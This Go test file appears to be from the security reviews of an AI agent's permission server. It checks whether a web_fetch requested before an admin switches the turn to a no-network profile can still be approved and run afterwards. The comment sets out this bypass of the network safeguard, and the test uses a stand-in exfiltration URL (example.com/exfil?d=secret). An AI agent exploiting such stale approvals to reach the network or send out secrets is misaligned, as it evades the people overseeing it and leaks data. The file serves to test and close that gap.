package tests

import (
	"net/http"
	"os"
	"path/filepath"
	"testing"
)

// TestAttack74ChangeToOfflineKeepsPendingFetch: the seventy-fourth review.
// An admin moves a turn mid-way to a profile whose network is off and whose
// approval table never asks ("offline": network enabled = false, policy
// full_access: an unattended "no network, never ask" turn). A new web_fetch
// there is refused network_disabled (asIsRefusal, the twenty-ninth review:
// a call the table allows outright is judged against the snapshot as it
// stands, not the Approvable one whose disabled network "may be granted").
// A web_fetch the agent asked for before the change, though, is not: the
// change's re-judgement of open requests (judgeOpen) checks its origin
// against the Approvable snapshot, so the request stays open (its host was
// not looked up), the approver still sees it, and once they allow it the
// runtime's retry is allowed too: checkResources skips asIsRefusal for a
// call that has a request, and its static URL check is again the
// Approvable one. The turn whose network the admin turned off fetches
// https://example.com/exfil?d=… with a person's click on a stale prompt.
//
// Severity: low-medium (needs an approver's answer, on a request opened
// before the change; the turn's profile says no network without asking).
//
// Fixed would look like: a change cancels an open request whose call the
// new snapshot refuses as it stands when its table would not ask
// (asIsRefusal in judgeOpen, or Evaluate + asIsRefusal there), and the
// retry of an approved call is judged by asIsRefusal too when the snapshot
// changed since its request.
//
// Control: a new web_fetch after the change is denied network_disabled.
func TestAttack74ChangeToOfflineKeepsPendingFetch(t *testing.T) {
	t.Parallel()
	profiles := filepath.Join(t.TempDir(), "profiles.toml")
	if err := os.WriteFile(profiles, []byte(`
[permissions.offline]
extends = ":workspace"
[permissions.offline.network]
enabled = false
[permissions.offline.approvals]
policy = "full_access"
`), 0o644); err != nil {
		t.Fatal(err)
	}
	s := StartServer(t, "", "--profiles", profiles)
	root := workspace(t)
	runtime := roAs(s, roCreate(t, s, "agent", "runtime", "ws"))
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "off", "workspace_id": "ws", "thread_id": "th-off",
		"permission_profile": map[string]any{"mode": "auto_accept_edits"}, "workspace_root": root}, http.StatusCreated, nil)
	fetch := map[string]any{"url": "https://example.com/exfil?d=secret"}
	if d := runtime.decide("off", "f1", "web_fetch", fetch); d.Decision != "ask" || d.Request == nil {
		t.Fatalf("precondition: web_fetch under auto_accept_edits asks: %+v", d)
	}
	if st, b := s.Request("POST", "/v1/turns/off/permissions", map[string]any{"permission_profile": map[string]any{"profile": "offline"}}); st != http.StatusOK {
		t.Fatalf("change to offline: %d %s", st, b)
	}
	if d := runtime.decide("off", "f2", "web_fetch", fetch); d.Decision != "deny" || d.Refusal != "network_disabled" {
		t.Fatalf("control: a new web_fetch after the change: %+v, want deny network_disabled", d)
	}
	d := runtime.decide("off", "f1", "web_fetch", fetch)
	if d.Request == nil {
		t.Fatalf("the pending call after the change: %+v", d)
	}
	if d.RequestStatus == "pending" {
		t.Errorf("the request of a fetch stays open after a change to a profile that disables the network without asking")
		if st, b := s.Request("POST", "/v1/approvals/"+d.Request.RequestID+"/respond", map[string]string{"resolution": "allow_once"}); st != http.StatusOK {
			t.Fatalf("respond: %d %s", st, b)
		}
		d = runtime.decide("off", "f1", "web_fetch", fetch)
	}
	if d.Decision == "allow" {
		t.Errorf("the fetch asked before the change is allowed after it, in a turn whose network is disabled: %s (%s by %s)", d.Decision, d.Reason, d.DecidedBy)
	}
}
